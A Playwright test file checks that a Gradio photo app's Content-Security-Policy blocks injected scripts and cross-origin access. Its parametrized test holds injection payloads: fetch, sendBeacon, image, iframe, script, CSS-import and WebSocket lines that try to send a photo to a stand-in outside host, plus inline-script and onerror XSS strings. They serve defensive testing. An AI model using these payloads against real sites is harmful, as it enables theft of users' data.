"""The whole page in Chromium under its own Content-Security-Policy: nothing that it needs is forbidden,
nothing else is asked for, and what an injected script would try is refused."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Response
from test_page import PORTRAIT, open_tab, upload, wait_for_result

RECORD = """
window.violations = [];
document.addEventListener("securitypolicyviolation", e => {
  window.violations.push(`${e.violatedDirective} ${e.blockedURI}`);
});
"""


def _is_refused(answer: Response) -> bool:
    """Whether an answer refuses something; the slider's pictures of a photo may be gone with it."""
    return answer.status >= 400 and not (answer.status == 404 and answer.url.endswith("/key.jpeg"))


@pytest.fixture
def recorded(browser: Browser, url: str) -> Iterator[tuple[Page, list[str]]]:
    """(the open page, what went wrong in it): requests elsewhere, errors, and answers that refuse."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    wrong: list[str] = []
    ours = (url, "data:", "blob:")
    context.on("request", lambda r: None if r.url.startswith(ours) else wrong.append(f"asked {r.url}"))
    context.on("response", lambda r: wrong.append(f"{r.status} {r.url}") if _is_refused(r) else None)
    page = context.new_page()
    page.add_init_script(RECORD)
    page.on("console", lambda m: wrong.append(m.text) if m.type == "error" and "404" not in m.text else None)
    page.on("pageerror", lambda e: wrong.append(str(e)))
    page.goto(url)
    page.wait_for_selector("#photo input[type=file]", state="attached", timeout=240_000)
    yield page, wrong
    context.close()


def test_the_whole_page_keeps_to_its_policy(recorded):
    page, wrong = recorded
    wait_for_result(page)  # the example
    upload(page, PORTRAIT)
    page.wait_for_selector("#download:not([disabled])", timeout=240_000)
    with page.expect_download(timeout=240_000) as got:
        page.click("#download")
    assert got.value.failure() is None
    page.locator("#years input[type=range]").press("ArrowRight")
    open_tab(page, 2, "#device-line")
    open_tab(page, 3, "#method svg")
    open_tab(page, 0, "#examples button")
    page.locator("#examples button").first.click()
    wait_for_result(page)
    assert page.evaluate("window.violations") == [] and wrong == []
    page.get_by_role("tab").nth(1).click()
    page.wait_for_selector("#grid img", timeout=300_000)
    page.locator("#grid button").nth(1).click()
    page.wait_for_selector("#large img", timeout=240_000)
    assert page.evaluate("window.violations") == [] and wrong == []


@pytest.mark.parametrize(
    ("script", "directive"),
    [
        ("fetch('http://192.0.2.1/?photo').catch(() => 0)", "connect-src"),
        ("new Image().src = 'http://192.0.2.1/photo.png'", "img-src"),
        ("navigator.sendBeacon('http://192.0.2.1/', 'photo')", "connect-src"),
        (
            "document.body.appendChild(document.createElement('iframe')).src = 'http://192.0.2.1/'",
            "frame-src",
        ),
        (
            "document.head.appendChild(document.createElement('script')).src = 'http://192.0.2.1/x.js'",
            "script-src",
        ),
        ("document.head.appendChild(document.createElement('script')).text = 'window.ran = 1'", "script-src"),
        ("document.body.innerHTML += '<img src=x onerror=\"window.ran = 1\">'", "script-src"),
        ("document.body.innerHTML += '<style>@import url(http://192.0.2.1/x.css)</style>'", "style-src"),
        ("new WebSocket('ws://192.0.2.1/')", "connect-src"),
    ],
)
def test_what_is_injected_reaches_nobody(recorded, script, directive):
    page, _ = recorded
    page.evaluate(f"() => {{ try {{ {script} }} catch (error) {{}} }}")
    page.wait_for_function("() => window.violations.length > 0", timeout=30_000)
    assert directive in page.evaluate("window.violations")[0]
    assert page.evaluate("window.ran") is None


def test_a_page_elsewhere_gets_nothing(browser, url, tmp_path):
    """A page that another site serves can neither read from this server nor write to it, nor show it
    in a frame.
    """
    (tmp_path / "evil.html").write_text("<title>evil</title>")
    context = browser.new_context()
    page = context.new_page()
    page.goto((tmp_path / "evil.html").as_uri())
    read = "u => fetch(u).then(r => r.text()).catch(() => 'refused')"
    write = (
        "u => fetch(u, {method: 'POST', mode: 'no-cors', body: 'x'}).then(r => r.type).catch(() => 'refused')"
    )
    assert page.evaluate(read, f"{url}/gradio_api/info") == "refused"
    assert page.evaluate(read, f"{url}/config") == "refused"
    assert page.evaluate(write, f"{url}/gradio_api/upload") in ("refused", "opaque")
    shown = "u => new Promise(done => { const i = new Image(); i.onload = () => done('shown');"
    shown += " i.onerror = () => done('refused'); i.src = u; })"
    assert page.evaluate(shown, f"{url}/gradio_api/file={PORTRAIT}") == "refused"
    context.close()
